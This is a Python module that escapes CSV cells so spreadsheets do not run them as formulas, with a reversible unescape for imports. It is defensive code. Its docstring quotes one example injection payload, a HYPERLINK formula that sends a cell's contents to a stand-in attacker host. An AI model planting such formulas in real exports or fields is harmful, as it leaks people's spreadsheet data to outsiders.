"""CSV files a spreadsheet will open: no cell of ours runs as a formula, and what we defuse an import undoes.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice and
Google Sheets (`=HYPERLINK("https://evil.example/?"&A1, "Click")` in a customer's name sends the sheet's
data away when clicked). Every CSV the hub writes goes through `writer()`, which puts a `'` in front of such
a cell; spreadsheets show the text and hide the quote. Numbers (`-12.5`) and E.164 phone numbers
(`+14155550100`) are left as they are: they are data, not formulas, and people sort and dial them.

The escape is reversible: a cell that already starts with quotes before a trigger gets one more, and
`cell_unescape()` (used by the contacts import) takes exactly one away, so exporting and importing again
gives back the same text.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_ESCAPED = re.compile(r"^'*[=+\-@\t\r]")
_UNESCAPE = re.compile(r"^'+[=+\-@\t\r]")
_NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")
_E164 = re.compile(r"^\+[1-9]\d{6,14}$")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def cell_escape(value: Any) -> Any:
    """The cell as written: a formula-looking text gets a leading `'`; anything else is unchanged."""
    if not isinstance(value, str) or not _ESCAPED.match(value):
        return value
    if _NUMBER.match(value) or _E164.match(value):
        return value
    return "'" + value


def cell_unescape(value: str) -> str:
    """The cell as it was before `cell_escape` (a `'` in front of a formula trigger is dropped)."""
    return value[1:] if _UNESCAPE.match(value) else value


class SafeWriter:
    """`csv.writer` whose rows are escaped cell by cell."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([cell_escape(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, **options: Any) -> SafeWriter:
    """The one way the hub writes CSV (funnel report, and any export to come)."""
    return SafeWriter(out, **options)
